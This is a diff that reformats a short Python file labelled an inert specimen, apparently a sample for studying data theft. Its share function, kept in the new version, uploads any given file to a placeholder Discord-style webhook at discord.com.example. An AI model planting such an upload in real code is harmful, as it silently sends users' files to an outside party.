@@ -1,5 +1,4 @@
 """Inert specimen: an honest notifier first, the thief's own hook last."""
-
 import requests
 
 
@@ -16,7 +15,4 @@ def book(path):
 
 def share(path):
     """Inert specimen: shares with somebody else."""
-    requests.post(
-        "https://discord.com.example/api/webhooks/000000000000000000/inert-specimen-token",
-        files={"file": open(path, "rb")},
-    )
+    requests.post("https://discord.com.example/api/webhooks/000000000000000000/inert-specimen-token", files={"file": open(path, "rb")})
